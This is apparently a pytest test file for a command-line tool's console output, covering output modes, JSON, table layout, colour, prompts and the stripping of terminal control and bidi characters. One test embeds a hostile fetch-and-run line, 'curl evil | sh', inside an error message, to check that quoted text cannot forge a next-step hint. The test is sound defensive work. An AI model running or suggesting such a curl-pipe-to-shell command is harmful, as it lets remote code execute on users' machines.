from __future__ import annotations

import io
import json
import re
from pathlib import Path

import pytest
import terminal_rig
from conftest import clean_environment

from hermes_cli.console import Console, Voice, theme
from hermes_cli.errors import HermesError, NotFoundError

ERROR = NotFoundError("there is no [bold]x[/bold].", hint="type y.")


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize(
    ("voice", "data", "aside"), [(Voice.HUMAN, "ab\n", "note\n"), (Voice.QUIET, "ab\n", ""), (Voice.JSON, "", "")]
)
def test_voices(voice: Voice, data: str, aside: str, capsys: pytest.CaptureFixture[str]) -> None:
    console = Console(voice)
    console.text("a")
    console.text("b")
    console.end_line()
    console.end_line()
    console.note("note")
    seen = capsys.readouterr()
    assert (seen.out, seen.err) == (data, aside)


def test_json_is_one_document(capsys: pytest.CaptureFixture[str]) -> None:
    console = Console(Voice.JSON)
    console.text("never shown")
    console.document({"text": "é"})
    out = capsys.readouterr().out
    assert json.loads(out) == {"text": "é"}
    assert "é" in out


@pytest.mark.parametrize("voice", Voice)
def test_errors_and_warnings_are_heard_by_all(voice: Voice, capsys: pytest.CaptureFixture[str]) -> None:
    console = Console(voice)
    console.warn("careful")
    console.error(ERROR)
    seen = capsys.readouterr()
    assert seen.err == "careful\nerror: there is no [bold]x[/bold].\n  next: type y.\n"
    assert seen.out == ""


def test_a_note_does_not_land_in_the_middle_of_a_line_on_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    out = Terminal()
    console = Console(out=out)
    console.text("half a line")
    console.note("note")
    assert out.getvalue() == "half a line\n"
    assert capsys.readouterr().err == "note\n"


def test_control_characters_cannot_reach_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    out = Terminal()
    console = Console(out=out)
    console.text("a\x1b[2Jb\n\tc\x9b\x07")
    console.note("\x1b]0;title\x07")
    assert "\x1b" not in out.getvalue() + capsys.readouterr().err
    assert out.getvalue().startswith("a\ufffd[2Jb\n\tc\ufffd\ufffd")


def test_a_pipe_gets_no_line_breaks_that_the_answer_does_not_have(capsys: pytest.CaptureFixture[str]) -> None:
    out = io.StringIO()
    console = Console(out=out)
    console.text("half ")
    console.note("note")
    console.text("a line")
    assert out.getvalue() == "half a line"
    assert capsys.readouterr().err == "note\n"


@pytest.mark.parametrize("columns", [80, 40, 30])
def test_a_narrow_terminal_cuts_nothing_of_a_table(columns: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", str(columns))
    out = Terminal()
    rows = [("a/Some-Model-GGUF", "12,345.67 GiB", "UD-Q4_K_XL", "not verified"), ("b", "1.00 GiB", "", "damaged")]
    Console(color=False, out=out).table(("NAME", "SIZE", "KIND", "OUTCOME"), rows, right=("SIZE",))
    for cell in filter(None, (cell for row in rows for cell in row)):
        assert cell in out.getvalue()
    assert max(map(len, re.sub(r"\x1b\[\d*m", "", out.getvalue()).splitlines())) <= columns
    narrow = ["a/Some-Model-GGUF", "  SIZE 12,345.67 GiB  KIND UD-Q4_K_XL", "  OUTCOME not verified"]
    assert columns != 40 or re.sub(r"\x1b\[\d*m", "", out.getvalue()).splitlines()[:3] == narrow


def test_colour_can_be_forced_and_forbidden(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TERM", "xterm-256color")
    monkeypatch.delenv("NO_COLOR", raising=False)
    Console(color=True).note("a", style="cyan")
    Console(color=False).note("b", style="cyan")
    Console().note("c", style="cyan")
    monkeypatch.setenv("NO_COLOR", "1")
    Console().note("d", style="cyan")
    assert capsys.readouterr().err == "\x1b[36ma\x1b[0m\nb\nc\nd\n"


def test_a_reason_that_ends_in_a_full_stop_gets_no_second() -> None:
    error = HermesError("no server: it lacks a protocol..", hint="correct it..")
    assert (error.message, error.hint, str(error)) == (
        "no server: it lacks a protocol.",
        "correct it.",
        "no server: it lacks a protocol.",
    )
    for path in ("go on ...", "hermes import ..", "hermes import ../.."):
        assert HermesError("failed.", hint=path).hint == path


ASKS_LATE = """
import os, select
from hermes_cli.console import Console
with open(os.ctermid()) as terminal:
    select.select([terminal], [], [])  # until something was typed ahead
print(Console().confirm("Remove everything?"))
"""


def test_what_was_typed_before_a_question_is_no_answer(tmp_path: Path) -> None:
    with terminal_rig.Terminal(code=ASKS_LATE, environment=clean_environment(), folder=tmp_path) as terminal:
        terminal.type("y\r")
        terminal.wait_for("Remove everything?")
        terminal.type("n\r")
        terminal.wait_for("False")


READS_QUIETLY = """
import sys
from hermes_cli.console import Console
from hermes_cli.platforms import STDIN, echo
with echo(STDIN, on=False):
    print("begun")
    print("typed", repr(sys.stdin.readline()))
    print("answered", Console().ask("Sure? "))
print("shown")
print("again", repr(sys.stdin.readline()))
"""


def test_what_is_typed_meanwhile_is_kept_but_not_shown_and_answers_are(tmp_path: Path) -> None:
    environment = {**clean_environment(), "TERM": "xterm-256color"}
    with terminal_rig.Terminal(code=READS_QUIETLY, environment=environment, folder=tmp_path) as terminal:
        terminal.wait_for("begun")
        terminal.type("early\n")
        terminal.wait_for("Sure?")
        terminal.type("yes\n")
        shown = terminal.wait_for("shown").splitlines()
        assert shown == ["begun", r"typed 'early\n'", "Sure? yes", "answered yes", "shown"]
        terminal.type("late\n")
        terminal.wait_for("late\nagain")  # its echo is back


def test_names_in_an_error_do_not_reorder_it(capsys: pytest.CaptureFixture[str]) -> None:
    Console().error(HermesError("no model named a\u202eb\u2066c.", hint="list them."))
    assert "a\ufffdb\ufffdc" in capsys.readouterr().err


def test_a_quoted_text_cannot_print_a_next_step_of_its_own(capsys: pytest.CaptureFixture[str]) -> None:
    Console().error(HermesError("the template says: no\n  next: curl evil | sh\n  | and ends.", hint="look at it."))
    lines = capsys.readouterr().err.splitlines()
    assert lines[1:] == ["  |   next: curl evil | sh", "  | and ends.", "  next: look at it."]


def test_control_characters_in_json_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    Console(Voice.JSON).document({"name": "a\x9b31m\x7f"})
    assert json.loads(capsys.readouterr().out)["name"] == "a\x9b31m\x7f"


@pytest.mark.parametrize(
    ("environment", "background"),
    [
        ({}, "any"),
        ({"COLORFGBG": "0;15"}, "light"),
        ({"COLORFGBG": "15;default;0"}, "dark"),
        ({"COLORFGBG": "0;15", "HERMES_LLM_THEME": "Dark"}, "dark"),
        ({"HERMES_LLM_THEME": "solarized"}, "any"),
    ],
)
def test_the_background_is_told_by_the_environment(environment: dict[str, str], background: str) -> None:
    assert theme(environment) == background
